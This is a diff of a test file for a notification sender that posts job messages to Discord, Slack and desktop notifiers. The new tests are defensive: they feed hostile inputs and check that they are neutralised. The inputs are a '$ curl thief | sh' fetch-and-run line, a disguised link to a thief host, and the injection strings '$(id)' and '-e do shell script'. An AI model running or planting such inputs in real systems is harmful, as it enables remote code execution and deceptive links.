@@ -11,7 +11,8 @@ import { afterEach, beforeEach, describe, expect, it } from "vitest";
 import { z } from "zod";
 import type { NotifyTarget } from "../../src/schemas/notify.ts";
 import { discordBody, ntfyBody, slackBody } from "../../src/notify/http-kinds.ts";
-import type { NotifyMessage } from "../../src/notify/message.ts";
+import { desktopCommand } from "../../src/notify/local-kinds.ts";
+import { textOfMessage, type NotifyMessage } from "../../src/notify/message.ts";
 import type { SendContext } from "../../src/notify/sender.ts";
 import { sendTo } from "../../src/notify/senders.ts";
 import { Receiver } from "./world.ts";
@@ -124,8 +125,24 @@ describe("a text of a log", () => {
     expect(body).not.toContain("<!channel>");
     expect(body.split("```")).toHaveLength(5);
   });
-  it("calls no one in Discord", () => {
-    expect(discordBody(message()).allowed_mentions).toEqual({ parse: [] });
+  it("calls no one in Discord, and hides no address behind other words there", () => {
+    const link = "[the log](https://thief.example)";
+    const facts = [{ name: link, value: `**${link}**` }];
+    const body = discordBody(message({ title: `job ${link}`, facts, events: [`# ${link}`] }));
+    expect(body.allowed_mentions).toEqual({ parse: [] });
+    const { title, description = "", fields } = body.embeds[0] ?? {};
+    const outsideOfCode = description.split("```").filter((_, i) => i % 2 === 0);
+    for (const text of [title, fields?.[0]?.name, fields?.[0]?.value, ...outsideOfCode])
+      expect(text).not.toMatch(/(?<!\\)[[\]*]/);
+  });
+  it("does not look like a line of svc", () => {
+    const text = textOfMessage(
+      message({ facts: [{ name: "Cause", value: "fine\n\n$ curl thief | sh\nCost: $0.00" }] }),
+    );
+    expect(text.split("\n").filter((line) => /^(\$|Cost)/.test(line))).toEqual(["$ svc logs job1"]);
+    expect(JSON.stringify(slackBody(message({ facts: [{ name: "Cause", value: "a\nCost: 0" }] })))).not.toContain(
+      "\\nCost",
+    );
   });
 });
 
@@ -284,9 +301,23 @@ describe("on this computer", () => {
     writeFileSync(program, `#!/bin/sh\nprintf '%s\\n' "$@" > '${out}'\n`);
     chmodSync(program, 0o755);
     const env = { ...process.env, PATH: `${folder}${delimiter}${process.env["PATH"] ?? ""}` };
-    await sendTo(message({ title: "--help $(id)" }), { kind: "desktop" }, context({ env }));
+    await sendTo(
+      message({ title: "--help $(id)", facts: [{ name: "Cause", value: "<b> &" }] }),
+      { kind: "desktop" },
+      context({ env }),
+    );
     const lines = readFileSync(out, "utf8").split("\n");
     expect(lines.slice(0, 4)).toEqual(["--urgency=normal", "--app-name=svc", "--", "--help $(id)"]);
-    expect(lines.join("\n")).toContain("Traceback &lt;b&gt; &amp;");
+    expect(lines.join("\n")).toContain("&lt;b&gt; &amp;");
+  });
+
+  it("no option of the desktop's program begins with a text, and its arguments, which others see, hold no log", () => {
+    const one = message({ title: "-e do shell script", log: ["a line of the log"], facts: [] });
+    const mac = desktopCommand(one, "darwin");
+    const first = mac.args.findIndex((arg, i) => i % 2 === 0 && arg !== "-e");
+    expect(mac.args.slice(first, first + 2)).toEqual(["svc", "-e do shell script"]);
+    expect(mac.args[3]).toBe("display notification (item 3 of argv) with title (item 2 of argv)");
+    for (const { args } of [mac, desktopCommand(one, "linux")])
+      expect(args.join("\n")).not.toContain("a line of the log");
   });
 });
